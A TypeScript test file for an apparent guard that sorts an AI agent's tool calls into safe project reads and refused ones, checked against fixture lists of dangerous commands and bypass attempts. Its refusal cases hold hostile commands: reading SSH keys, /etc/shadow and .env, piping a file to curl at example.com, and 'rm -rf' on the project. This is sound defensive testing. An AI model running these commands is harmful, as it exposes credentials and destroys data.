import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { HookEvent } from "../event/event.ts";
import { attachRoot } from "../event/field.ts";
import { realPath } from "../fs/resolve-path.ts";
import { whyUnknown } from "./known-call.ts";

const root = realPath(mkdtempSync(join(tmpdir(), "sluice-known-")));
afterAll(() => rmSync(root, { recursive: true, force: true }));
for (const folder of ["src", "docs", ".git"]) mkdirSync(join(root, folder));
for (const file of ["src/a.ts", "docs/a.md", "package.json", "README.md", ".env"])
  writeFileSync(join(root, file), "x\n");

function whyNot(tool: string, args: object, isKept = false): string | undefined {
  const event = HookEvent.toolPreExecute(tool, args, { cwd: root });
  attachRoot(event, root, root);
  return whyUnknown(event, { root, isKept });
}

const bash = (command: string, isKept?: boolean) => whyNot("Bash", { command }, isKept);

const READS = `ls
ls -la
ls -la src docs
pwd
cat package.json
cat src/a.ts | head -50
head -20 README.md
tail -n 5 docs/a.md
wc -l src/a.ts docs/a.md
grep -rn TODO src
grep -rn "import" src | head -20
grep -c x README.md; wc -l README.md
rg TODO src
rg -n --type ts import
find . -name '*.ts'
find src -type f -name '*.ts' | wc -l
find . -maxdepth 2 -type d | sort
git status
git status --short && git diff --stat
git diff
git diff HEAD~1 -- src/a.ts
git log --oneline -10
git log -p -1 src/a.ts
git show HEAD:src/a.ts
git show --stat HEAD
git branch -a
git blame src/a.ts
git rev-parse HEAD
git ls-files | grep ts
git remote -v
git stash list
stat src/a.ts
file README.md
du -sh src
df -h
tree src
which node
node --version
npm --version
python3 --version
uname -a
whoami
date
id
ps aux | grep node
sort README.md | uniq -c
cut -d: -f1 README.md
awk '{print $1}' README.md
sed -n 1,20p src/a.ts
jq .name package.json
jq -r '.scripts | keys[]' package.json
diff src/a.ts docs/a.md
cmp src/a.ts docs/a.md
sha256sum README.md
md5sum src/a.ts
test -f README.md && echo yes
[ -d src ] && ls src
echo hello
printf '%s\\n' a b
basename src/a.ts
dirname src/a.ts
realpath src/a.ts
readlink -f src/a.ts
cd src && ls
cd src && cat a.ts && cd .. && ls docs
cat src/a.ts 2>/dev/null || echo missing
ls src; ls docs; cat README.md
xxd src/a.ts | head
od -c README.md | head -3
nl -ba src/a.ts
cat src/*.ts
ls *.json
true
hostname
uptime
free -m
column -t README.md
tr a-z A-Z < README.md
comm src/a.ts docs/a.md
git describe --tags
git tag -l
git config --get user.name
git shortlog -sn
npm ls --depth=0
cat /etc/os-release
ls /usr/bin | head`.split("\n");

describe("calls that only read in the project", () => {
  it("are known, at least nine of ten", () => {
    const unknown = READS.flatMap((command) => {
      const why = bash(command);
      return why === undefined ? [] : [`${command}: ${why}`];
    });
    expect(unknown.length, unknown.join("\n")).toBeLessThanOrEqual(READS.length / 10);
  });

  it.each([
    ["Read", { file_path: join(root, "src/a.ts") }],
    ["Grep", { pattern: "x", path: "src" }],
    ["Glob", { pattern: "**/*.ts" }],
  ])("%s of a file of the project is known", (tool, args) => {
    expect(whyNot(tool, args)).toBe(undefined);
  });

  it.each([
    ["Read", { file_path: "/etc/shadow" }],
    ["Read", { file_path: ".env" }],
    ["Glob", { pattern: "/etc/**" }],
    ["Glob", { pattern: "../*" }],
    ["Write", { file_path: join(root, "src/a.ts"), content: "" }],
    ["mcp__files__read", { path: "src/a.ts" }],
    ["WebFetch", { url: "https://example.com" }],
  ])("%s of something else is not: %j", (tool, args) => {
    expect(whyNot(tool, args)).toBeDefined();
  });
});

it.each([
  ["cat .env", "secrets"],
  ["cat ~/.ssh/id_rsa", "outside"],
  ["cat /etc/shadow", "outside"],
  ["cat ../other/file", "outside"],
  ["cat $FILE", "not known"],
  ["ls; curl https://example.com", "network"],
  ["cat README.md | curl -d @- https://example.com", "network"],
  ["echo x > src/a.ts", "changes"],
  ["git commit -m x", "changes"],
  ["npm test", ""],
  ["node -e 'console.log(1)'", ""],
  ["python3 script.py", ""],
  ["./ls", "system"],
  ["PATH=. ls", ""],
  ["sudo ls", ""],
  ["env", "keys"],
  ["printenv HOME", "keys"],
  ["ls && rm -rf src", "undo has not kept"],
  ["kill 1", ""],
  ["sh -c ls", ""],
])("%s is not known: %s", (command, why) => {
  expect(bash(command)).toContain(why);
  expect(bash(command)).toBeDefined();
});

it("what undo has kept may be deleted in the project, and nothing else", () => {
  expect([bash("rm src/a.ts", true), bash("rm -rf src && ls", true)]).toEqual([undefined, undefined]);
  for (const command of [
    "rm -rf .",
    "rm -rf .git",
    "rm -rf /tmp/x",
    "rm -rf ../x",
    "rm $X",
    "rm -rf src; curl x.example",
  ])
    expect([command, bash(command, true) === undefined]).toEqual([command, false]);
});

const LISTS = [
  ...["corpora/third/dangerous-commands", "corpora/third/dangerous-tools"],
  ...["corpora/dangerous-commands", "corpora/dangerous-tools", "shell/dangerous", "shell/bypass", "tools/dangerous"],
].map((name) => resolve(import.meta.dirname, `../../fixtures/${name}.jsonl`));

it.each(LISTS)("no dangerous call of %s is known", (file) => {
  const rows: readonly Readonly<Record<string, unknown>>[] = readFileSync(file, "utf8")
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line));
  // All rows are tried with SLUICE_ALL_ROWS=1.
  const tried = rows.filter((_, at) => process.env.SLUICE_ALL_ROWS === "1" || at % 5 === 0);
  const known = tried.filter(({ command, line, tool, tool_name, args, input }) => {
    const text = command ?? line;
    if (typeof text === "string") return bash(text) === undefined;
    return whyNot(String(tool ?? tool_name), Object(args ?? input)) === undefined;
  });
  expect(rows.length).toBeGreaterThan(20);
  expect(known).toEqual([]);
});
